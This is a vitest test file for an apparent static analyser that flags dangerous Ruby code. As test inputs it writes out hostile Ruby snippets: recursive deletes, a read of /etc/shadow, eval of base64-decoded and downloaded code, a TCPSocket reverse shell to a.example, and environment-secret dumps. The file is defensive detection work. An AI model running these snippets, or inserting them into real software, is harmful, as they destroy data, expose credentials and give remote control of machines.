import { describe, expect, test } from 'vitest';
import { findings, read } from './read.ts';

const lines = (...each: readonly string[]) => each.join('\n');
const encoded = (text: string) => Buffer.from(text).toString('base64');

describe('Ruby', () => {
  test.each<[string, readonly string[]]>([
    ["File.delete('/srv/a', '/srv/b')", ['file.delete /srv/a', 'file.delete /srv/b']],
    ["require 'fileutils'; FileUtils.rm_rf '/srv'", ['file.delete /srv recursive,force']],
    [lines('include FileUtils', "rm_rf '/srv'"), ['file.delete /srv recursive,force']],
    ['%w[/srv/a /srv/b].each { |f| File.delete(f) }', ['file.delete /srv/a', 'file.delete /srv/b']],
    [lines("Dir['/srv/*'].each do |f|", '  File.unlink f', 'end'), ['file.delete /srv/*']],
    ["Pathname.new('/srv/x').rmtree", ['file.delete /srv/x recursive,force']],
    [lines('def drop(path)', '  File.delete(path)', 'end', "drop('/srv/z')"), ['file.delete /srv/z']],
    ["File.write(File.join(Dir.home, '.profile'), 'x')", ['file.write /home/ann/.profile']],
    ["File.open('/srv/x', 'a') { |f| f.puts 'x' }", ['file.append /srv/x']],
    ["puts File.read('/etc/shadow')", ['file.read /etc/shadow']],
    ['system "rm -rf #{Dir.home}"', ['shell rm -rf /home/ann']],
    ["system('rm', '-rf', '/srv') if true", ['argv rm -rf /srv']],
    ['x = `id`; y = %x(ls -la)', ['shell id', 'shell ls -la']],
    ["IO.popen(['rm', 'x'])", ['argv rm x']],
    ["require 'open3'; Open3.capture2('id')", ['shell id']],
    ["Kernel.send(:system, 'id')", ['shell id']],
    ["send('sys' + 'tem', 'id')", ['shell id']],
    ["method(:system).call('id')", ['shell id']],
    ["open('|id').read", ['shell id']],
    [`eval Base64.decode64('${encoded('go()')}')`, ['code.eval decoded', 'code go() (decoded)']],
    [`eval "${encoded('go()')}".unpack1("m")`, ['code.eval decoded', 'code go() (decoded)']],
    ["eval ['676f2829'].pack('H*')", ['code.eval decoded', 'code go() (decoded)']],
    ["require 'open-uri'; eval URI.open('https://a.example/x.rb').read", ['net.request a.example', 'code.eval downloaded']],
    [
      "require 'socket'; s = TCPSocket.new('a.example', 1); while c = s.gets; IO.popen(c, 'r') { |io| s.print io.read }; end",
      ['net.request a.example raw-socket,reverse-shell', 'exec … dynamic', 'shell … (downloaded)'],
    ],
    ['puts ENV.to_h', ['secret.dump environment']],
    ['ENV.each { |k, v| puts "#{k}=#{v}" }', ['secret.dump environment']],
    ["puts ENV['API_TOKEN']", ['secret.read API_TOKEN environment']],
  ])('%s', (code, expected) => {
    expect(findings(read('ruby', code))).toEqual(expected);
  });

  test.each([
    `puts "File.delete('x')" # system('x')`,
    lines('x = <<~TEXT', "  system('id')", 'TEXT', 'puts x'),
    lines("data = { 'a' => 1, b: 2 }", 'data.each do |k, v|', '  puts "#{k}: #{v}" if v.is_a?(Integer)', 'end', 'data.delete(:b)'),
    lines('=begin', "system('id')", '=end', 'puts 1'),
    'a = 5 % 3; b = a / 2; c = a > 1 ? 1 : 2; [1].map(&:to_s); puts /system "id"/.match?("x")',
    lines('class A', '  attr_reader :system', '  def exec(x) = x + 1', 'end', 'puts A.new.system'),
  ])('honest code stays quiet: %s', (code) => {
    expect(findings(read('ruby', code))).toEqual([]);
  });
});
